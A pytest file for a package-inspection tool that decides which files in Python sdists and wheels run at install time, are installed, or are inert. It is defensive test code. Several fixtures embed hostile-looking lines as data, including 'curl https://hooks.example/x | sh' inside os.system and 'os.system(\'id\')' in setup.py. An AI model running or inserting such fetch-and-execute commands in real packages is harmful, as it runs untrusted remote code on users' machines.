"""verify._behaviour.reach: which files run at install time, which are installed, which are inert.

Every distribution here is a small in-memory tree (path -> bytes); one test goes through a real
tar.gz built in ``tmp_path``. Nothing is executed: a setup.py that would fail or misbehave if
run only has to be classified.
"""

from __future__ import annotations

import io
import tarfile
import time
from collections.abc import Iterable, Mapping
from pathlib import Path

import pytest

from verify._behaviour.buildtime import MAX_FOLLOWED_FILES
from verify._behaviour.reach import Reach, Role, is_test_path, reach, reach_archive
from verify._dist.archive import open_archive
from verify._dist.metadata import archive_metadata, read_metadata

INSTALL, INSTALLED, INERT = Role.INSTALL, Role.INSTALLED, Role.INERT
PKG_INFO = b"Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n"


def run(files: Mapping[str, bytes], archive_format: str = "tar") -> Reach:
    """reach() over an in-memory distribution, with the metadata read_metadata finds in it."""
    metadata, _ = read_metadata(list(files), files.__getitem__)
    return reach(archive_format, list(files), files.__getitem__, metadata)


def roles(result: Reach, paths: Iterable[str]) -> dict[str, Role]:
    """The role of each of ``paths``."""
    return {path: result.role(path) for path in paths}


def pyproject(backend: str, *tables: str, name: str = "demo") -> bytes:
    head = f'[build-system]\nrequires = []\nbuild-backend = "{backend}"\n'
    project = f'[project]\nname = "{name}"\nversion = "1.0"\n'
    return "\n".join([head, project, *tables]).encode()


# --- sdists: what the build configuration installs ------------------------------------------

LAYOUTS: dict[str, tuple[dict[str, bytes], dict[str, Role]]] = {
    "setuptools find_packages(exclude=['tests*'])": (
        {
            "PKG-INFO": PKG_INFO,
            "setup.py": b"from setuptools import setup, find_packages\n"
            b"setup(name='demo', packages=find_packages(exclude=['tests', 'tests.*']))\n",
            "demo/__init__.py": b"",
            "demo/core.py": b"",
            "demo/data/table.json": b"{}",
            "tests/__init__.py": b"",
            "tests/test_core.py": b"import demo\n",
            "tools/release.py": b"import subprocess\n",
        },
        {
            "setup.py": INSTALL,
            "demo/__init__.py": INSTALLED,
            "demo/core.py": INSTALLED,
            "demo/data/table.json": INSTALLED,
            "tests/__init__.py": INERT,
            "tests/test_core.py": INERT,
            "tools/release.py": INERT,
        },
    ),
    "find_packages() without exclude installs a top-level tests package": (
        {
            "setup.py": b"from setuptools import setup, find_packages\n"
            b"setup(name='demo', packages=find_packages())\n",
            "demo/__init__.py": b"",
            "tests/__init__.py": b"",
            "tests/test_core.py": b"",
        },
        {"demo/__init__.py": INSTALLED, "tests/test_core.py": INSTALLED},
    ),
    "src layout with package_dir": (
        {
            "setup.py": b"from setuptools import setup, find_packages\n"
            b"setup(name='demo', package_dir={'': 'src'}, packages=find_packages('src'),\n"
            b"      py_modules=['helper'], scripts=['bin/demo-run'])\n",
            "src/demo/__init__.py": b"",
            "src/demo/sub/__init__.py": b"",
            "src/helper.py": b"",
            "bin/demo-run": b"#!/bin/sh\n",
            "bin/unlisted": b"#!/bin/sh\n",
            "examples/demo_use.py": b"",
        },
        {
            "src/demo/__init__.py": INSTALLED,
            "src/demo/sub/__init__.py": INSTALLED,
            "src/helper.py": INSTALLED,
            "bin/demo-run": INSTALLED,
            "bin/unlisted": INERT,
            "examples/demo_use.py": INERT,
        },
    ),
    "setup.cfg [options] and [options.packages.find]": (
        {
            "setup.py": b"from setuptools import setup\nsetup()\n",
            "setup.cfg": b"[metadata]\nname = demo\n[options]\npackage_dir =\n    =src\n"
            b"packages = find:\n[options.packages.find]\nwhere = src\nexclude =\n"
            b"    demo.tests\n    demo.tests.*\n",
            "src/demo/__init__.py": b"",
            "src/demo/tests/__init__.py": b"",
            "src/demo/tests/test_x.py": b"",
        },
        {
            "setup.cfg": INERT,
            "src/demo/__init__.py": INSTALLED,
            "src/demo/tests/__init__.py": INERT,
            "src/demo/tests/test_x.py": INERT,
        },
    ),
    "pyproject [tool.setuptools] packages": (
        {
            "pyproject.toml": pyproject(
                "setuptools.build_meta", '[tool.setuptools]\npackages = ["demo", "demo.sub"]\n'
            ),
            "demo/__init__.py": b"",
            "demo/sub/__init__.py": b"",
            "demo/unlisted/__init__.py": b"",
            "scripts/gen.py": b"",
        },
        {
            "pyproject.toml": INERT,
            "demo/__init__.py": INSTALLED,
            "demo/sub/__init__.py": INSTALLED,
            "demo/unlisted/__init__.py": INERT,
            "scripts/gen.py": INERT,
        },
    ),
    "pyproject [tool.setuptools.packages.find]": (
        {
            "pyproject.toml": pyproject(
                "setuptools.build_meta",
                '[tool.setuptools.packages.find]\nwhere = ["lib"]\nexclude = ["*.tests"]\n',
            ),
            "lib/demo/__init__.py": b"",
            "lib/demo/tests/test_a.py": b"",
            "other/__init__.py": b"",
        },
        {
            "lib/demo/__init__.py": INSTALLED,
            "lib/demo/tests/test_a.py": INERT,
            "other/__init__.py": INERT,
        },
    ),
    "setuptools automatic discovery (nothing declared)": (
        {
            "pyproject.toml": pyproject("setuptools.build_meta"),
            "demo/__init__.py": b"",
            "docs/conf.py": b"",
            "tests/test_a.py": b"",
            "noxfile.py": b"",
            "demo_cli.py": b"",
        },
        {
            "demo/__init__.py": INSTALLED,
            "demo_cli.py": INSTALLED,
            "docs/conf.py": INERT,
            "tests/test_a.py": INERT,
            "noxfile.py": INERT,
        },
    ),
    "flit: the module named like the project": (
        {
            "pyproject.toml": pyproject("flit_core.buildapi", name="demo-kit"),
            "demo_kit/__init__.py": b'"""Demo."""\n',
            "tests/test_kit.py": b"",
            "docs/conf.py": b"",
        },
        {
            "demo_kit/__init__.py": INSTALLED,
            "tests/test_kit.py": INERT,
            "docs/conf.py": INERT,
        },
    ),
    "hatch default: src/<name>, and setup.py is not what pip runs": (
        {
            "pyproject.toml": pyproject("hatchling.build", name="hat-demo"),
            "setup.py": b"import os\nos.system('id')\n",
            "src/hat_demo/__init__.py": b"",
            "src/hat_demo/tests/test_x.py": b"",
            "tests/test_y.py": b"",
        },
        {
            "setup.py": INERT,
            "src/hat_demo/__init__.py": INSTALLED,
            "src/hat_demo/tests/test_x.py": INSTALLED,
            "tests/test_y.py": INERT,
        },
    ),
    "hatch packages and a custom build hook": (
        {
            "pyproject.toml": pyproject(
                "hatchling.build",
                '[tool.hatch.build.targets.wheel]\npackages = ["lib/demo"]\n'
                "[tool.hatch.build.hooks.custom]\n",
            ),
            "hatch_build.py": b"from build_support import helper\n",
            "build_support/__init__.py": b"",
            "build_support/helper.py": b"",
            "lib/demo/__init__.py": b"",
        },
        {
            "hatch_build.py": INSTALL,
            "build_support/__init__.py": INSTALL,
            "build_support/helper.py": INSTALL,
            "lib/demo/__init__.py": INSTALLED,
        },
    ),
    "poetry packages from src": (
        {
            "pyproject.toml": b'[build-system]\nbuild-backend = "poetry.core.masonry.api"\n'
            b'[tool.poetry]\nname = "demo"\nversion = "1.0"\n'
            b'packages = [{ include = "poet", from = "src" }]\n',
            "src/poet/__init__.py": b"",
            "src/poet/cli.py": b"",
            "src/other/__init__.py": b"",
            "tests/test_poet.py": b"",
        },
        {
            "src/poet/__init__.py": INSTALLED,
            "src/poet/cli.py": INSTALLED,
            "src/other/__init__.py": INERT,
            "tests/test_poet.py": INERT,
        },
    ),
    "poetry default: named like the project, and its build script runs": (
        {
            "pyproject.toml": b'[build-system]\nbuild-backend = "poetry.core.masonry.api"\n'
            b'[tool.poetry]\nname = "poet-demo"\nversion = "1.0"\n'
            b'[tool.poetry.build]\nscript = "build.py"\n',
            "build.py": b"",
            "poet_demo/__init__.py": b"",
            "benchmarks/run.py": b"",
        },
        {"build.py": INSTALL, "poet_demo/__init__.py": INSTALLED, "benchmarks/run.py": INERT},
    ),
    "pdm-backend default and its automatic build hook": (
        {
            "pyproject.toml": pyproject("pdm.backend"),
            "pdm_build.py": b"",
            "src/demo/__init__.py": b"",
            "tests/test_demo.py": b"",
        },
        {"pdm_build.py": INSTALL, "src/demo/__init__.py": INSTALLED, "tests/test_demo.py": INERT},
    ),
    "maturin python-source and the Cargo build script": (
        {
            "pyproject.toml": pyproject(
                "maturin", '[tool.maturin]\npython-source = "python"\nmodule-name = "demo._rs"\n'
            ),
            "Cargo.toml": b"[package]\n",
            "build.rs": b'fn main() { Command::new(python).arg("tools/gen_bindings.py"); }\n',
            "tools/gen_bindings.py": b"",
            "src/lib.rs": b"",
            "python/demo/__init__.py": b"",
        },
        {
            "build.rs": INSTALL,
            "tools/gen_bindings.py": INSTALL,
            "src/lib.rs": INSTALLED,
            "python/demo/__init__.py": INSTALLED,
        },
    ),
    "scikit-build-core: CMake runs at build time": (
        {
            "pyproject.toml": pyproject("scikit_build_core.build"),
            "CMakeLists.txt": b"project(demo)\n",
            "src/demo/__init__.py": b"",
            "src/demo/_core.cpp": b"",
        },
        {
            "CMakeLists.txt": INSTALL,
            "src/demo/__init__.py": INSTALLED,
            "src/demo/_core.cpp": INSTALLED,
        },
    ),
}


@pytest.mark.parametrize("case", list(LAYOUTS), ids=list(LAYOUTS))
def test_build_configurations_decide_what_is_installed(case: str) -> None:
    files, expected = LAYOUTS[case]
    result = run(files)
    assert roles(result, expected) == expected
    assert not result.heuristic, result.notes
    assert set(result.roles) == set(files)


def test_top_level_names_come_from_the_configuration() -> None:
    files, _ = LAYOUTS["src layout with package_dir"]
    assert run(files).top_level == ("demo", "helper")


# --- sdists: what runs at install time -------------------------------------------------------


@pytest.mark.parametrize(
    ("setup", "helpers", "reason"),
    [
        pytest.param(
            b"from tests.helper import prepare\nfrom setuptools import setup\nsetup()\n",
            {"tests/__init__.py": INSTALL, "tests/helper.py": INSTALL},
            "imported by setup.py",
            id="a test helper setup.py imports",
        ),
        pytest.param(
            b"exec(open('demo/version.py').read())\n",
            {"demo/version.py": INSTALL, "demo/__init__.py": INSTALLED},
            "executed by setup.py",
            id="exec(open(...).read())",
        ),
        pytest.param(
            b"import os\nhere = os.path.abspath(os.path.dirname(__file__))\nabout = {}\n"
            b"with open(os.path.join(here, 'demo', '__version__.py')) as f:\n"
            b"    exec(f.read(), about)\n",
            {"demo/__version__.py": INSTALL},
            "executed by setup.py",
            id="exec of a file opened through os.path.join",
        ),
        pytest.param(
            b"import runpy\nfrom pathlib import Path\n"
            b"runpy.run_path(str(Path('tools') / 'gen.py'))\n",
            {"tools/gen.py": INSTALL},
            "executed by setup.py",
            id="runpy.run_path of a Path",
        ),
        pytest.param(
            b"import importlib\nimportlib.import_module('tools.gen')\n",
            {"tools/gen.py": INSTALL, "tools/__init__.py": INSTALL},
            "imported by setup.py",
            id="importlib.import_module with a literal",
        ),
        pytest.param(
            b"import subprocess, sys\nsubprocess.check_call([sys.executable, 'tools/gen.py'])\n",
            {"tools/gen.py": INSTALL},
            "run by setup.py",
            id="a script run with sys.executable",
        ),
        pytest.param(
            b"import os\nos.system('sh scripts/post.sh && echo done > NOTES.txt')\n",
            {"scripts/post.sh": INSTALL, "NOTES.txt": INERT},
            "run by setup.py",
            id="a shell command: its script runs, its output file does not",
        ),
        pytest.param(
            b"import sys\nsys.path.insert(0, 'src')\nfrom demo import __version__\n",
            {"src/demo/__init__.py": INSTALL},
            "imported by setup.py",
            id="an import after sys.path.insert",
        ),
        pytest.param(
            b"from setuptools import setup\nsetup()\n",
            {"setuptools/__init__.py": INSTALL},
            "imported by setup.py",
            id="a local setuptools shadows the real one",
        ),
    ],
)
def test_setup_py_makes_tree_files_run(setup: bytes, helpers: dict[str, Role], reason: str) -> None:
    files = {"PKG-INFO": PKG_INFO, "setup.py": setup, **dict.fromkeys(helpers, b"")}
    files.setdefault("demo/__init__.py", b"")
    result = run(files)
    assert roles(result, helpers) == helpers
    first = next(path for path, role in helpers.items() if role is INSTALL)
    assert result.reason(first) == reason
    assert result.role("setup.py") is INSTALL


@pytest.mark.parametrize(
    ("files", "expected"),
    [
        pytest.param(
            {
                "pyproject.toml": pyproject("mesonpy"),
                "meson.build": b"project('demo')\ngen = files('tools/gen.py')\nsubdir('demo')\n",
                "tools/gen.py": b"import gen_support\n",
                "tools/gen_support.py": b"",
                "demo/meson.build": b"py.install_sources(['__init__.py', 'core.py'])\n",
                "demo/__init__.py": b"",
                "demo/core.py": b"",
                "docs/meson.build": b"run_command('docs/evil.py')\n",
            },
            {
                "meson.build": INSTALL,
                "tools/gen.py": INSTALL,
                # Run as a program: its own directory is on sys.path.
                "tools/gen_support.py": INSTALL,
                "demo/meson.build": INSTALL,
                "demo/__init__.py": INSTALLED,
                "demo/core.py": INSTALLED,
                # No subdir() reaches it.
                "docs/meson.build": INERT,
            },
            id="meson: subdir() and generator scripts run, installed sources do not",
        ),
        pytest.param(
            {
                "pyproject.toml": pyproject("scikit_build_core.build"),
                "CMakeLists.txt": b"add_subdirectory(src)\n",
                "src/CMakeLists.txt": b"execute_process(COMMAND ${Python_EXECUTABLE}\n"
                b"  ${CMAKE_CURRENT_SOURCE_DIR}/configure.py)\n",
                "src/configure.py": b"",
                "other/CMakeLists.txt": b"",
                "src/demo/__init__.py": b"",
            },
            {
                "CMakeLists.txt": INSTALL,
                "src/CMakeLists.txt": INSTALL,
                "src/configure.py": INSTALL,
                "other/CMakeLists.txt": INERT,
                "src/demo/__init__.py": INSTALLED,
            },
            id="CMake: add_subdirectory and execute_process",
        ),
    ],
)
def test_build_scripts_in_other_languages_are_followed(
    files: dict[str, bytes], expected: dict[str, Role]
) -> None:
    assert roles(run(files), expected) == expected


def test_reading_a_module_with_a_regex_is_not_running_it() -> None:
    # re.compile is not compile(): reading __init__.py for its version does not execute it.
    setup = (
        b"import re\nVERSION = re.compile(r'__version__ = (.*)')\n"
        b"init = open('demo/__init__.py').read()\n"
        b"from setuptools import setup\nsetup(name='demo', packages=['demo'])\n"
    )
    result = run({"setup.py": setup, "demo/__init__.py": b"__version__ = '1'\n"})
    assert result.role("demo/__init__.py") is INSTALLED


def test_in_tree_backend_and_what_it_imports_run_at_install_time() -> None:
    files = {
        "pyproject.toml": b'[build-system]\nrequires = []\nbuild-backend = "backend:hooks"\n'
        b'backend-path = ["_build"]\n',
        "_build/backend.py": b"from support import fetch\nhooks = object()\n",
        "_build/support.py": b"from .. import nothing\n",
        "demo/__init__.py": b"",
    }
    result = run(files)
    assert result.role("_build/backend.py") is INSTALL
    assert result.reason("_build/backend.py") == "in-tree build backend (backend-path)"
    assert result.role("_build/support.py") is INSTALL
    assert result.reason("_build/support.py") == "imported by _build/backend.py"


@pytest.mark.parametrize(
    ("version_source", "role"),
    [
        pytest.param(b"__version__ = '1.0'\n", INSTALLED, id="a literal is read, not imported"),
        pytest.param(b"__version__ = compute()\n", INSTALL, id="anything else is imported"),
    ],
)
def test_attr_versions_import_the_module_only_when_they_must(
    version_source: bytes, role: Role
) -> None:
    files = {
        "setup.py": b"from setuptools import setup\nsetup()\n",
        "setup.cfg": b"[metadata]\nname = demo\nversion = attr: demo.__version__\n"
        b"[options]\npackages = demo\n",
        "demo/__init__.py": version_source,
    }
    assert run(files).role("demo/__init__.py") is role


@pytest.mark.parametrize(
    ("source", "role"),
    [
        pytest.param(b'"""Demo."""\n__version__ = "2.0"\n', INSTALLED, id="literal version"),
        pytest.param(b'"""Demo."""\nfrom ._v import __version__\n', INSTALL, id="imported"),
    ],
)
def test_flit_imports_the_module_for_a_version_that_is_not_literal(
    source: bytes, role: Role
) -> None:
    files = {
        "pyproject.toml": b'[build-system]\nbuild-backend = "flit_core.buildapi"\n'
        b'[project]\nname = "demo"\ndynamic = ["version", "description"]\n',
        "demo/__init__.py": source,
        "demo/_v.py": b"__version__ = '2.0'\n",
    }
    result = run(files)
    assert result.role("demo/__init__.py") is role
    assert result.role("demo/_v.py") is role


def test_entry_point_modules_are_installed() -> None:
    files = {
        "PKG-INFO": PKG_INFO,
        "demo.egg-info/PKG-INFO": PKG_INFO,
        "demo.egg-info/entry_points.txt": b"[console_scripts]\ndemo = cli_tools.main:run\n",
        "setup.py": b"from setuptools import setup\nsetup(name='demo', packages=['demo'])\n",
        "demo/__init__.py": b"",
        "cli_tools/__init__.py": b"",
        "cli_tools/main.py": b"",
    }
    result = run(files)
    assert result.role("cli_tools/main.py") is INSTALLED
    assert result.reason("cli_tools/main.py") == "entry point [console_scripts] demo"
    assert result.role("demo.egg-info/entry_points.txt") is INERT


def test_an_import_cycle_terminates() -> None:
    files = {
        "setup.py": b"import a\nfrom setuptools import setup\nsetup(py_modules=['a', 'b'])\n",
        "a.py": b"import b\nfrom b import a\n",
        "b.py": b"import a\nimport b\n",
    }
    result = run(files)
    assert result.paths(INSTALL) == ("a.py", "b.py", "setup.py")


def test_following_install_time_imports_is_bounded() -> None:
    count = MAX_FOLLOWED_FILES + 50
    files = {f"m{i}.py": f"import m{i + 1}\n".encode() for i in range(count)}
    files["setup.py"] = b"import m0\n"
    result = run(files)
    assert len(result.paths(INSTALL)) <= MAX_FOLLOWED_FILES + 1
    assert result.role(f"m{count - 1}.py") is not INSTALL
    assert any("followed through" in note for note in result.notes)


# --- the heuristic ---------------------------------------------------------------------------


def test_a_dynamic_setup_py_falls_back_to_the_heuristic() -> None:
    files = {
        "PKG-INFO": PKG_INFO,
        "setup.py": b"import os\nfrom setuptools import setup\n"
        b"setup(name='demo', packages=[d for d in os.listdir('.') if os.path.isdir(d)])\n",
        "demo/__init__.py": b"",
        "tools/__init__.py": b"",
        "bin/run": b"",
        "tests/__init__.py": b"",
        "docs/conf.py": b"",
        "README.rst": b"",
    }
    result = run(files)
    assert result.heuristic
    assert roles(result, files) == {
        "PKG-INFO": INERT,
        "setup.py": INSTALL,
        "demo/__init__.py": INSTALLED,
        # Only affirmative evidence makes a file inert when the configuration cannot be read.
        "tools/__init__.py": INSTALLED,
        "bin/run": INSTALLED,
        "tests/__init__.py": INERT,
        "docs/conf.py": INERT,
        "README.rst": INERT,
    }
    assert result.reason("demo/__init__.py").startswith("heuristic: in package 'demo'")
    assert result.top_level == ("demo", "tools")
    assert any("setup.py computes packages=" in note for note in result.notes)


@pytest.mark.parametrize(
    "backend",
    ["mesonpy", "custom_backend.api"],
)
def test_backends_that_decide_in_code_give_the_heuristic(backend: str) -> None:
    files = {"pyproject.toml": pyproject(backend), "demo/__init__.py": b"", "meson.build": b""}
    result = run(files)
    assert result.heuristic
    assert result.role("demo/__init__.py") is INSTALLED
    assert result.role("meson.build") is (INSTALL if backend == "mesonpy" else INSTALLED)


# --- inert files -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    "path",
    [
        "docs/conf.py",
        ".github/workflows/release.py",
        ".github/scripts/notify.sh",
        ".circleci/config.yml",
        "examples/quickstart.py",
        "benchmarks/bench_core.py",
        "noxfile.py",
        "conftest.py",
        "tox.ini",
        "PKG-INFO",
        "demo.egg-info/SOURCES.txt",
        "README.md",
        "docs/refs.bib",
        "docs/logo.png",
    ],
)
def test_files_outside_what_is_installed_are_inert(path: str) -> None:
    files = {
        "PKG-INFO": PKG_INFO,
        "setup.py": b"from setuptools import setup\nsetup(name='demo', packages=['demo'])\n",
        "demo/__init__.py": b"",
        path: b"import os\nos.system('curl https://hooks.example/x | sh')\n",
    }
    result = run(files)
    assert result.role(path) is INERT, result.reason(path)
    assert result.reason(path)


def test_pkg_info_is_metadata_even_when_it_holds_code() -> None:
    files = {"PKG-INFO": b"import os\nos.system('id')\n", "setup.py": b"import os\n"}
    result = run(files)
    assert result.role("PKG-INFO") is INERT
    assert result.reason("PKG-INFO") == "metadata (PKG-INFO)"


@pytest.mark.parametrize(
    ("path", "role", "test"),
    [
        ("demo/tests/test_core.py", INSTALLED, True),
        ("tests/test_core.py", INERT, True),
        ("demo/core.py", INSTALLED, False),
    ],
)
def test_tests_inside_a_package_are_installed_but_marked_as_tests(
    path: str, role: Role, test: bool
) -> None:
    files = {
        "setup.py": b"from setuptools import setup, find_packages\n"
        b"setup(name='demo', packages=find_packages(exclude=['tests']))\n",
        "demo/__init__.py": b"",
        "demo/tests/__init__.py": b"",
        path: b"",
    }
    result = run(files)
    assert (result.role(path), result.is_test(path)) == (role, test)


@pytest.mark.parametrize(
    ("path", "expected"),
    [
        ("tests/helper.py", True),
        ("pkg/testing/x.py", True),
        ("pkg/test_x.py", True),
        ("pkg/x_test.py", True),
        ("conftest.py", True),
        ("pkg/contest.py", False),
        ("pkg/latest/x.py", False),
    ],
)
def test_is_test_path(path: str, expected: bool) -> None:
    assert is_test_path(path) is expected


# --- wheels ----------------------------------------------------------------------------------


def test_wheel_everything_outside_dist_info_is_installed() -> None:
    files = {
        "demo/__init__.py": b"",
        "demo/tests/test_x.py": b"",
        "demo_hook.pth": b"import demo\n",
        "demo-1.0.data/scripts/demo-run": b"#!python\n",
        "demo-1.0.data/purelib/extra/__init__.py": b"",
        "demo-1.0.data/data/share/demo.conf": b"",
        "demo-1.0.dist-info/METADATA": PKG_INFO,
        "demo-1.0.dist-info/RECORD": b"",
        "demo-1.0.dist-info/top_level.txt": b"demo\n",
        "setup.py": b"# shipped in a wheel, never run\n",
    }
    result = run(files, "wheel")
    assert roles(result, files) == {
        "demo/__init__.py": INSTALLED,
        "demo/tests/test_x.py": INSTALLED,
        "demo_hook.pth": INSTALLED,
        "demo-1.0.data/scripts/demo-run": INSTALLED,
        "demo-1.0.data/purelib/extra/__init__.py": INSTALLED,
        "demo-1.0.data/data/share/demo.conf": INSTALLED,
        "demo-1.0.dist-info/METADATA": INERT,
        "demo-1.0.dist-info/RECORD": INERT,
        "demo-1.0.dist-info/top_level.txt": INERT,
        "setup.py": INSTALLED,
    }
    assert result.paths(INSTALL) == ()
    assert "runs at every interpreter start" in result.reason("demo_hook.pth")
    assert result.reason("demo-1.0.data/scripts/demo-run") == "installed script (.data/scripts)"
    # The undeclared top-level module (setup) is reported along with top_level.txt's.
    assert result.top_level == ("demo", "extra", "setup")
    assert result.is_test("demo/tests/test_x.py")


# --- hostile input ---------------------------------------------------------------------------


def test_a_huge_setup_py_is_bounded_and_still_followed() -> None:
    body = b"x = 1 + 2\n" * 520_000  # 5.2 MB: not parsed into an AST
    files = {
        "setup.py": b"import payload_helper\n" + body,
        "payload_helper.py": b"",
        "demo/__init__.py": b"",
    }
    started = time.monotonic()
    result = run(files)
    assert time.monotonic() - started < 10
    assert result.role("setup.py") is INSTALL
    assert result.role("payload_helper.py") is INSTALL
    assert result.heuristic


@pytest.mark.parametrize(
    "setup",
    [
        pytest.param(b"x = " + b"(" * 50_000 + b")" * 50_000 + b"\n", id="deep nesting"),
        pytest.param(b"x = " + b"a+" * 200_000 + b"a\n", id="a long chain"),
        pytest.param(b"\xff\xfe\x00garbage\x00", id="not text"),
        pytest.param(b"def f(:\n  import tests.helper\n", id="a syntax error"),
    ],
)
def test_setup_py_that_does_not_parse_is_still_install_time(setup: bytes) -> None:
    files = {
        "setup.py": setup,
        "demo/__init__.py": b"",
        "tests/__init__.py": b"",
        "tests/helper.py": b"",
    }
    result = run(files)
    assert result.role("setup.py") is INSTALL
    assert result.heuristic
    if b"tests.helper" in setup:
        # The text scan stands in for the AST.
        assert result.role("tests/helper.py") is INSTALL


def test_a_reader_that_fails_never_raises() -> None:
    def read(path: str) -> bytes:
        raise OSError(f"cannot read {path}")

    paths = ["setup.py", "pyproject.toml", "demo/__init__.py", "tests/test_a.py"]
    result = reach("tar", paths, read, None)
    assert result.role("setup.py") is INSTALL
    assert result.role("tests/test_a.py") is INERT
    assert result.role("demo/__init__.py") is INSTALLED
    assert result.heuristic


@pytest.mark.parametrize(
    "pyproject_text",
    [b"[build-system\n", b"[tool.setuptools]\npackages = 3\npackage-dir = 'x'\n"],
)
def test_malformed_configuration_never_raises(pyproject_text: bytes) -> None:
    files = {"pyproject.toml": pyproject_text, "setup.py": b"", "demo/__init__.py": b""}
    result = run(files)
    assert result.role("setup.py") is INSTALL
    assert result.role("demo/__init__.py") is INSTALLED


def test_a_project_below_an_unstripped_root_is_found() -> None:
    files = {
        "demo-1.0/setup.py": b"import helper\n",
        "demo-1.0/helper.py": b"",
        "stray.txt": b"",
    }
    result = run(files)
    assert result.role("demo-1.0/setup.py") is INSTALL
    assert result.role("demo-1.0/helper.py") is INSTALL
    assert result.role("stray.txt") is INERT


def test_reach_archive_reads_a_real_sdist(tmp_path: Path) -> None:
    members = {
        "demo-1.0/PKG-INFO": PKG_INFO,
        "demo-1.0/setup.py": b"from setuptools import setup, find_packages\n"
        b"from build_helpers import x\n"
        b"setup(name='demo', packages=find_packages(exclude=['tests']))\n",
        "demo-1.0/build_helpers.py": b"",
        "demo-1.0/demo/__init__.py": b"",
        "demo-1.0/tests/test_demo.py": b"",
    }
    path = tmp_path / "demo-1.0.tar.gz"
    with tarfile.open(path, "w:gz") as tar:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    with open_archive(path) as archive:
        metadata, _ = archive_metadata(archive)
        result = reach_archive(archive, metadata)
    assert dict(result.roles) == {
        "PKG-INFO": INERT,
        "setup.py": INSTALL,
        "build_helpers.py": INSTALL,
        "demo/__init__.py": INSTALLED,
        "tests/test_demo.py": INERT,
    }
